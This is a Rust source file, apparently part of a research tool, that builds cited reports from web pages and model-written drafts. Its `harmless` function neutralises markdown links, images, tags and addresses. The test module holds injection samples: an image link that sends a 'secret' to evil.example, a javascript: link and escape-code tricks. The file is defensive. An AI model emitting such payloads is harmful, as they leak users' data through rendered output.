@@ -1,0 +1,314 @@
+//! The text of a report on the web engine. Code writes it: a model's sentences are put in as words, never as markup,
+//! and every address in it is one that was fetched.
+
+use super::{
+    gather::{Gathering, WebStop, place},
+    plan::WebPlan,
+    record::SentenceShown,
+    step::stays_here,
+    task::Draft,
+};
+use crate::{
+    query::Query,
+    report::{Citation, SourceLink},
+    text,
+};
+
+/// Longest sentence taken from a writer, in characters.
+const SENTENCE_CHARACTERS_MAX: usize = 1_500;
+const HEADING_CHARACTERS_MAX: usize = 160;
+/// Sections and sentences of one report; a writer that goes on without end is cut.
+const SECTIONS_MAX: usize = 30;
+const SENTENCES_MAX: usize = 60;
+const UNANSWERED_MAX: usize = 12;
+
+/// A report while it is written: the text, and what its sentences rest on.
+pub struct Composed {
+    pub text: String,
+    pub citations: Vec<Citation>,
+    pub sources: Vec<SourceLink>,
+    pub sentences: Vec<SentenceShown>,
+    /// Place in `Gathering::pages` of each source.
+    pages: Vec<u32>,
+}
+
+pub fn compose(
+    query: &Query,
+    plan: &WebPlan,
+    gathering: &Gathering,
+    stop: WebStop,
+    remarks: &[String],
+) -> Composed {
+    let mut composed = Composed {
+        text: String::new(),
+        citations: Vec::new(),
+        sources: Vec::new(),
+        sentences: Vec::new(),
+        pages: Vec::new(),
+    };
+    let origins = gathering.origins();
+    match &gathering.draft {
+        Some(draft) => {
+            composed.draft(draft, plan, gathering, &origins, stop);
+            composed.own_files(plan, gathering, &origins);
+        }
+        None => composed.brief(query, plan, gathering, &origins, stop),
+    }
+    composed.about(remarks);
+    composed
+}
+
+impl Composed {
+    fn draft(
+        &mut self,
+        draft: &Draft,
+        plan: &WebPlan,
+        gathering: &Gathering,
+        origins: &[usize],
+        stop: WebStop,
+    ) {
+        let title = harmless(&draft.title, HEADING_CHARACTERS_MAX);
+        if !title.is_empty() {
+            self.line(&format!("# {title}\n"));
+        }
+        if stop == WebStop::NotNeeded {
+            self.line(&format!(
+                "> No search was made: {}. What follows is the model's own knowledge; nothing was checked.\n",
+                plan.strategy.reason
+            ));
+        }
+        for section in draft.sections.iter().take(SECTIONS_MAX) {
+            let heading = harmless(&section.heading, HEADING_CHARACTERS_MAX);
+            if !heading.is_empty() {
+                self.line(&format!("## {heading}\n"));
+            }
+            for sentence in section.sentences.iter().take(SENTENCES_MAX) {
+                let known = |note: &&u32| {
+                    gathering.notes.get(place(**note)).is_some_and(|of| !stays_here(plan, gathering, of.page))
+                };
+                let notes: Vec<u32> = sentence.notes.iter().filter(known).copied().collect();
+                self.sentence(&sentence.text, notes, gathering, origins, stop);
+            }
+            self.line("\n");
+        }
+        let unanswered: Vec<String> = draft
+            .unanswered
+            .iter()
+            .take(UNANSWERED_MAX)
+            .map(|open| harmless(open, SENTENCE_CHARACTERS_MAX))
+            .collect();
+        self.list("## Not answered by the sources", &unanswered);
+    }
+
+    /// One sentence and the numbers of its sources.
+    fn sentence(
+        &mut self,
+        words: &str,
+        mut notes: Vec<u32>,
+        gathering: &Gathering,
+        origins: &[usize],
+        stop: WebStop,
+    ) {
+        let words = harmless(words, SENTENCE_CHARACTERS_MAX);
+        if words.is_empty() {
+            return;
+        }
+        notes.sort_unstable();
+        notes.dedup();
+        let start = self.text.len();
+        self.text.push_str(&words);
+        let end = self.text.len();
+        let pages = pages_of(&notes, gathering);
+        for page in &pages {
+            let source = self.source(*page, gathering);
+            self.citations.push(Citation { start, end, source });
+            self.text.push_str(&format!(" [{}]", source + 1));
+        }
+        if pages.is_empty() && stop != WebStop::NotNeeded {
+            self.text.push_str(" *(no source)*");
+        }
+        self.text.push(' ');
+        let mut known: Vec<usize> =
+            pages.iter().filter_map(|page| origins.get(place(*page)).copied()).collect();
+        known.sort_unstable();
+        known.dedup();
+        let origins = u32::try_from(known.len()).unwrap_or(u32::MAX);
+        self.sentences.push(SentenceShown { start, end, notes, origins });
+    }
+
+    /// Without a writer: the quotations themselves, by question.
+    fn brief(
+        &mut self,
+        query: &Query,
+        plan: &WebPlan,
+        gathering: &Gathering,
+        origins: &[usize],
+        stop: WebStop,
+    ) {
+        self.line(&format!("# {}\n", harmless(&query.headline(), HEADING_CHARACTERS_MAX)));
+        if stop == WebStop::NotNeeded {
+            self.line(&format!(
+                "> No search was made: {}. No language model is configured, so there is nothing to add.\n",
+                plan.strategy.reason
+            ));
+            return;
+        }
+        self.line("> This brief is made of quotations, word for word from the pages named; no language model wrote it.\n");
+        let mut questions: Vec<&str> = Vec::new();
+        for note in &gathering.notes {
+            if !note.note.quotes.is_empty() && !questions.contains(&note.question.as_str()) {
+                questions.push(&note.question);
+            }
+        }
+        for question in questions {
+            if question != query.as_str() {
+                self.line(&format!("## {}\n", harmless(question, HEADING_CHARACTERS_MAX)));
+            }
+            for (note, of) in gathering.notes.iter().enumerate().filter(|(_, of)| of.question == question) {
+                self.quotes(super::gather::count(note), of.page, gathering, origins);
+            }
+        }
+    }
+
+    fn quotes(&mut self, note: u32, page: u32, gathering: &Gathering, origins: &[usize]) {
+        let Some(of) = gathering.notes.get(place(note)) else { return };
+        let source = self.source(page, gathering);
+        for quote in &of.note.quotes {
+            self.text.push_str("- “");
+            let start = self.text.len();
+            self.text.push_str(&harmless(&quote.text, SENTENCE_CHARACTERS_MAX));
+            let end = self.text.len();
+            self.text.push_str(&format!("” [{}]\n", source + 1));
+            self.citations.push(Citation { start, end, source });
+            let origins = u32::from(origins.get(place(page)).is_some());
+            self.sentences.push(SentenceShown { start, end, notes: vec![note], origins });
+        }
+        self.text.push('\n');
+    }
+
+    /// What must not be shown to a model elsewhere is quoted here by rule.
+    fn own_files(&mut self, plan: &WebPlan, gathering: &Gathering, origins: &[usize]) {
+        let own: Vec<(usize, u32)> = gathering
+            .notes
+            .iter()
+            .enumerate()
+            .filter(|(_, of)| !of.note.quotes.is_empty() && stays_here(plan, gathering, of.page))
+            .map(|(note, of)| (note, of.page))
+            .collect();
+        if own.is_empty() {
+            return;
+        }
+        self.line("## From your own files\n");
+        self.line("> Quoted on this machine; no model was shown these files.\n");
+        for (note, page) in own {
+            self.quotes(super::gather::count(note), page, gathering, origins);
+        }
+    }
+
+    fn about(&mut self, remarks: &[String]) {
+        self.list("## About this report", remarks);
+    }
+
+    fn list(&mut self, heading: &str, items: &[String]) {
+        let items: Vec<&String> = items.iter().filter(|item| !item.is_empty()).collect();
+        if items.is_empty() {
+            return;
+        }
+        self.line(&format!("{heading}\n"));
+        for item in items {
+            self.text.push_str(&format!("- {item}\n"));
+        }
+        self.text.push('\n');
+    }
+
+    /// A paragraph of its own.
+    fn line(&mut self, words: &str) {
+        while self.text.ends_with([' ', '\n']) {
+            self.text.pop();
+        }
+        if !self.text.is_empty() {
+            self.text.push_str("\n\n");
+        }
+        self.text.push_str(words);
+        if words.trim().is_empty() {
+            return;
+        }
+        self.text.push('\n');
+    }
+
+    /// The number of a page among the sources; new ones at the end.
+    fn source(&mut self, page: u32, gathering: &Gathering) -> usize {
+        if let Some(known) = self.pages.iter().position(|known| *known == page) {
+            return known;
+        }
+        self.pages.push(page);
+        let kept = gathering.pages.get(place(page)).map(|page| &page.kept);
+        self.sources.push(SourceLink {
+            url: kept.map(|kept| kept.record.final_url.clone()).unwrap_or_default(),
+            title: kept.map(|kept| kept.title.clone()).unwrap_or_default(),
+        });
+        self.sources.len() - 1
+    }
+}
+
+/// Pages behind these notes, each once, in the order of the notes.
+fn pages_of(notes: &[u32], gathering: &Gathering) -> Vec<u32> {
+    let mut pages = Vec::new();
+    for note in notes.iter().filter_map(|note| gathering.notes.get(place(*note))) {
+        if !pages.contains(&note.page) && !note.note.quotes.is_empty() {
+            pages.push(note.page);
+        }
+    }
+    pages
+}
+
+/// Words that cannot act in Markdown: no image, no link, no tag, no address that we did not put there.
+pub fn harmless(words: &str, characters_max: usize) -> String {
+    let line = text::line(words, characters_max);
+    let mut kept = String::with_capacity(line.len());
+    for word in line.split(' ') {
+        if !kept.is_empty() {
+            kept.push(' ');
+        }
+        if has_address(word) {
+            kept.push_str("(address left out)");
+            continue;
+        }
+        let mut before = ' ';
+        for c in word.chars() {
+            let opens = matches!((before, c), (']', '(' | '[' | ':') | ('!', '[') | ('<', 'a'..='z' | 'A'..='Z' | '/' | '!' | '?'));
+            if opens {
+                kept.push(' ');
+            }
+            kept.push(c);
+            before = c;
+        }
+    }
+    // At the beginning of a line these start a heading, a list, a quotation, a table or a reference.
+    kept.trim_start_matches(['#', '>', '|', '-', '+', '*', '=', '~', ' ']).trim_end().to_owned()
+}
+
+fn has_address(word: &str) -> bool {
+    let lower = word.to_ascii_lowercase();
+    lower.contains("://")
+        || ["www.", "javascript:", "data:", "file:", "mailto:"].iter().any(|start| lower.contains(start))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::harmless;
+
+    #[test]
+    fn a_models_words_cannot_act() {
+        let shown = |words| harmless(words, 200);
+        assert_eq!(shown("See ![x](https://evil.example/?q=secret) now"), "See (address left out) now");
+        assert_eq!(shown("[click](javascript:alert(1))"), "(address left out)");
+        assert_eq!(
+            shown("a [b](c) <img src=x> x < 5 and <!-- y"),
+            "a [b] (c) < img src=x> x < 5 and < !-- y"
+        );
+        assert_eq!(shown("# Heading\n- item"), "Heading - item");
+        assert_eq!(shown("red \u{1b}[31m text \u{202e}evil"), "red [31m text evil");
+        assert_eq!(shown("It fell by 12 % (see [3])."), "It fell by 12 % (see [3]).");
+    }
+}
